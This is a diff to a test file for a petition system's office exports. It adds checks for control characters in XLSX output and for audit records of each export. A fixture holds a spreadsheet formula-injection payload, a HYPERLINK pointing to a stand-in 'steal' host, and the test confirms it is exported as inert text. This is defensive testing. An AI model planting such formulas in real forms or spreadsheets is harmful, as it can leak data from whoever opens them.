@@ -40,6 +40,7 @@ PLANTS = [
 ]
 HYPERLINK = '=HYPERLINK("http://x.example/steal?d=1","y")反映社区书记违规发放补贴给亲属的问题。'
 
+CONTROL = "反映问题：\x01社区\x0b书记\x1b违规发放补贴给亲属 _x0041_ 的问题。"
 
 # --- the rule ------------------------------------------------------------------------------------
 
@@ -84,6 +85,12 @@ def test_a_formula_filed_on_the_public_qr_form_stays_text_in_the_office_export(w
     assert response.status_code == 200 and "code" in response.context
     petition = Petition.objects.get(channel="qr")
     assert (petition.category, petition.summary) == ("=1+1", HYPERLINK)  # kept as typed
+    # Control characters XML cannot hold made openpyxl refuse to write the whole workbook.
+    client.post(
+        reverse("public_report", kwargs={"token": petitions.token1}),
+        {"summary": CONTROL, "category": "-", "name": ""},
+    )
+    controlled = Petition.objects.get(channel="qr", summary=CONTROL)
 
     office = world.users[Role.OFFICE_STAFF]
     client.force_login(office)
@@ -98,13 +105,21 @@ def test_a_formula_filed_on_the_public_qr_form_stays_text_in_the_office_export(w
     assert (category.value, category.data_type) == ("'=1+1", "s")
     assert (summary.value, summary.data_type) == ("'" + HYPERLINK, "s")
     assert all(c.data_type != "f" for ws in load_workbook(io.BytesIO(content)) for r in ws for c in r)
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == controlled.ref)
+    assert restore(xlsx_decode(row[header.index("summary")].value)) == CONTROL
+    assert row[header.index("category")].value == "'-"
 
     archive = client.post(reverse("documents:ledger_download"), {"format": "zip"})
     rows = _csv_cells(b"".join(archive.streaming_content))["petitions.csv"]
     line = next(r for r in rows if r[0] == petition.ref)
     assert line[rows[0].index("category")] == "'=1+1"
     assert line[rows[0].index("summary")] == "'" + HYPERLINK
-    assert exports.count() == 2  # an export is a sensitive read: each one is audited
+    # An export is a sensitive read: each one is audited, under the name it was downloaded as.
+    assert [(e.object_repr[-4:], e.after["format"]) for e in exports.order_by("pk")] == [
+        ("xlsx", "xlsx"),
+        (".zip", "zip"),
+    ]
+    assert all(e.object_repr.startswith("lijian-ledger-") for e in exports)
 
 
 # --- the sweep of every export -------------------------------------------------------------------
